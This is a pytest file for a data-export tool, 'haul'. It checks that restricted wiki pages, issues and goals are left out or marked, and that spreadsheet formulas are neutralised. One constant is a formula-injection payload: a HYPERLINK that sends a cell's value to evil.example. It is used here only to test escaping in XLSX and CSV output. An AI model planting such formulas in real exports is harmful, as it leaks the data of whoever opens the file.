"""What an analyst's export holds of what the source restricts, and of text a spreadsheet
would run: end to end, a sandbox's tracker and wiki extracted by `haul extract` and exported
by `haul export` as subprocesses, the files read back with pandas, openpyxl and DuckDB."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import duckdb
import httpx
import pandas as pd
import pytest
from openpyxl import load_workbook

from haul.pipelines.export.tables import ExportContext
from haul.pipelines.wiki.export import restricted_pages
from haul.state.store import StagingStore
from tests.helpers.export_fixtures import Staged, only_folder, stage_sandbox

SHARED_WITH = "eve"  # the one person the restricted issue is shared with
SHARED = "DEV-3"  # the issue with an access list (it has comments and a changelog)
TEAM_ONLY_GOAL = "Ship a stable platform"  # the sandbox's goal only security reads
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def staged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Staged]:
    """The sandbox's tracker and wiki staged once, after the source was given an issue with
    an access list (SHARED) and an open issue whose summary is a formula (DEV-2)."""
    from haul.sandbox import server as sandbox_server

    with sandbox_server.start_sandbox(size="tiny", seed=5) as sandbox:
        info = sandbox.info
        headers = {
            "Authorization": f"OAuth {info['tokens']['admin']}",
            "X-Org-ID": info["orgs"]["source"],
        }
        with httpx.Client(base_url=info["tracker"], headers=headers, timeout=30) as source:
            shared = source.patch(f"/issues/{SHARED}", json={"access": [SHARED_WITH]})
            assert shared.status_code == 200, shared.text
            formula = source.patch("/issues/DEV-2", json={"summary": FORMULA})
            assert formula.status_code == 200, formula.text
        directory = tmp_path_factory.mktemp("export-access")
        yield stage_sandbox(
            sandbox, directory, services=("tracker", "wiki"), scope_extra={"entities": "all"}
        )


def with_export(staged: Staged, name: str, settings: str) -> Path:
    """A copy of the sandbox's config with an `[export]` section of `settings`."""
    path = staged.directory / f"{name}.toml"
    text = staged.config.read_text(encoding="utf-8")
    path.write_text(text + f"\n[export]\n{settings}\n", encoding="utf-8")
    return path


def restricted_facts(store_path: Path) -> dict[str, object]:
    """What the store holds that the source restricts: the pages, their comments and grids
    (with their rows), and SHARED's comments."""
    with StagingStore.open_readonly(store_path) as store:
        pages = restricted_pages(store)
        grids = [g for g in store.iter_records("wiki_grid") if g.parent in pages]
        comments = [c for c in store.iter_records("wiki_comment") if c.parent in pages]
        issue_comments = list(store.iter_records("comment", parent=SHARED))
        ExportContext(store)  # the store opens as the export opens it
    return {
        "pages": pages,
        "grids": len(grids),
        "grid_rows": sum(len(g.raw.get("rows") or []) for g in grids),
        "comments": len(comments),
        "issue_comments": len(issue_comments),
    }


def test_restricted_content_is_left_out_by_default_and_counted(staged: Staged) -> None:
    """With no `[export] restricted`, the pages not open to all staff (custom, or inheriting
    from one), their comments and grids, the issue with an access list and what belongs to it,
    and the team-only goal and project are in no file and not in the DuckDB database; every table that can hold them has the
    `restricted` column (all false); the manifest counts what was left out per table and the
    summary says so."""
    facts = restricted_facts(staged.store_path)
    pages = facts["pages"]
    assert "team/handbook/hr/salaries" in pages and "team/handbook/hr" in pages  # type: ignore[operator]
    assert facts["grids"] and facts["comments"] and facts["issue_comments"]
    out = staged.directory / "default"

    done = staged.haul("export", "--config", staged.config, "--out", out)

    assert done.returncode == 0, done.stderr
    folder = only_folder(out)
    wiki_pages = pd.read_csv(folder / "wiki_pages.csv", dtype=str, keep_default_na=False)
    assert not set(wiki_pages["slug"]) & set(pages)  # type: ignore[arg-type]
    assert set(wiki_pages["restricted"]) == {"false"}
    comments = pd.read_csv(folder / "wiki_comments.csv", dtype=str, keep_default_na=False)
    assert not set(comments["page_slug"]) & set(pages)  # type: ignore[arg-type]
    issues = pd.read_csv(folder / "issues.csv", dtype=str, keep_default_na=False)
    assert SHARED not in set(issues["key"]) and "DEV-2" in set(issues["key"])
    issue_comments = pd.read_csv(folder / "comments.csv", dtype=str, keep_default_na=False)
    assert SHARED not in set(issue_comments["issue_key"])
    for name in ("status_intervals", "issue_custom_fields", "worklogs"):
        rows = pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)
        assert SHARED not in set(rows["issue_key"]), name
    goals = pd.read_csv(folder / "goals.csv", dtype=str, keep_default_na=False)
    assert TEAM_ONLY_GOAL not in set(goals["summary"]) and set(goals["restricted"]) == {"false"}
    with duckdb.connect(str(folder / "haul.duckdb"), read_only=True) as db:
        slugs = {row[0] for row in db.execute("SELECT slug FROM wiki_pages").fetchall()}
        keys = {row[0] for row in db.execute("SELECT key FROM issues").fetchall()}
        grid_tables = [
            row[0]
            for row in db.execute("SELECT table_name FROM duckdb_tables()").fetchall()
            if row[0].startswith("wiki_grid_")
        ]
    assert not slugs & set(pages) and SHARED not in keys  # type: ignore[arg-type]

    manifest = json.loads((folder / "manifest.json").read_text())
    restricted = manifest["restricted"]
    assert restricted["mode"] == "exclude"
    assert restricted["left_out"]["wiki_pages"] == len(pages)  # type: ignore[arg-type]
    assert restricted["left_out"]["wiki_comments"] == facts["comments"]
    assert restricted["left_out"]["issues"] == restricted["left_out"]["issue_custom_fields"] == 1
    assert restricted["left_out"]["flow_weekly"] == 1  # the issue, left out of its figures
    assert restricted["left_out"]["goals"] == restricted["left_out"]["projects"] == 1
    assert restricted["left_out"]["comments"] == facts["issue_comments"]
    assert restricted["tables_left_out"]["wiki_grid"] == {
        "tables": facts["grids"],
        "rows": facts["grid_rows"],
    }
    written_grids = [f for f in manifest["files"] if f["table"].startswith("wiki_grid_")]
    assert len(written_grids) == len(grid_tables)  # the open grids are there, and only they
    assert "left out as restricted at the source: " in done.stdout
    assert f"wiki_pages {len(pages)} rows" in done.stdout  # type: ignore[arg-type]


def test_include_writes_restricted_content_marked_with_its_holders(staged: Staged) -> None:
    """`[export] restricted = "include"` writes it all, each restricted row marked true with
    who may read it at the source: a page's groups and people, the issue's access list, a
    team-only goal's readers (its group, and the people its roles name: author, lead)."""
    config = with_export(staged, "include", 'restricted = "include"')
    out = staged.directory / "include"

    done = staged.haul("export", "--config", config, "--out", out, "--format", "parquet")

    assert done.returncode == 0, done.stderr
    folder = only_folder(out)
    pages = pd.read_parquet(folder / "wiki_pages.parquet").set_index("slug")
    hr = pages.loc["team/handbook/hr"]
    assert bool(hr["restricted"]) and "group hr" in json.loads(hr["access_holders"])
    assert not pages.loc["team/handbook", "restricted"]
    assert pd.isna(pages.loc["team/handbook", "access_holders"])
    issues = pd.read_parquet(folder / "issues.parquet").set_index("key")
    assert bool(issues.loc[SHARED, "restricted"])
    assert json.loads(issues.loc[SHARED, "access_holders"]) == [f"user {SHARED_WITH}"]
    goals = pd.read_parquet(folder / "goals.parquet").set_index("summary")
    goal = goals.loc[TEAM_ONLY_GOAL]
    readers = json.loads(goal["access_holders"])
    assert bool(goal["restricted"]) and {"user eve", "user trent"} <= set(readers)
    assert any(holder.startswith("group ") for holder in readers)  # the security group
    comments = pd.read_parquet(folder / "comments.parquet")
    assert comments[comments["issue_key"] == SHARED]["restricted"].all()
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["restricted"] == {"mode": "include", "left_out": {}, "tables_left_out": {}}
    assert "left out as restricted" not in done.stdout


def test_an_unknown_restricted_setting_is_a_config_error(staged: Staged) -> None:
    """`[export] restricted` takes "exclude" or "include" only: anything else exits 2."""
    config = with_export(staged, "bad", 'restricted = "sometimes"')

    done = staged.haul("export", "--config", config, "--out", staged.directory / "bad")

    assert done.returncode == 2
    assert "restricted" in done.stderr and "exclude" in done.stderr


def test_a_formula_in_a_summary_is_text_in_xlsx_and_escaped_in_csv(staged: Staged) -> None:
    """A summary starting with `=` is a text cell in the XLSX (exactly as written, never a
    formula), starts with `'` in the CSV, and is kept raw in Parquet and DuckDB."""
    out_xlsx, out_csv = staged.directory / "xlsx", staged.directory / "csv"
    for out, fmt in ((out_xlsx, "xlsx"), (out_csv, "csv")):
        done = staged.haul("export", "--config", staged.config, "--out", out, "--format", fmt,
                           "--entities", "issues")  # fmt: skip
        assert done.returncode == 0, done.stderr

    sheet = load_workbook(only_folder(out_xlsx) / "issues.xlsx")["issues"]
    header = [cell.value for cell in sheet[1]]
    key, summary = header.index("key"), header.index("summary")
    row = next(row for row in sheet.iter_rows(min_row=2) if row[key].value == "DEV-2")
    assert row[summary].value == FORMULA and row[summary].data_type == "s"
    numbers = [row[header.index("votes")], row[header.index("version")]]
    assert all(cell.data_type == "n" for cell in numbers if cell.value is not None)

    with (only_folder(out_csv) / "issues.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["key"]: row for row in csv.DictReader(file)}
    assert rows["DEV-2"]["summary"] == "'" + FORMULA
    assert rows["DEV-2"]["version"].isdigit()  # numbers are written as they are

    with duckdb.connect(str(only_folder(out_csv) / "haul.duckdb"), read_only=True) as db:
        found = db.execute("SELECT summary FROM issues WHERE key = 'DEV-2'").fetchone()
    assert found == (FORMULA,)
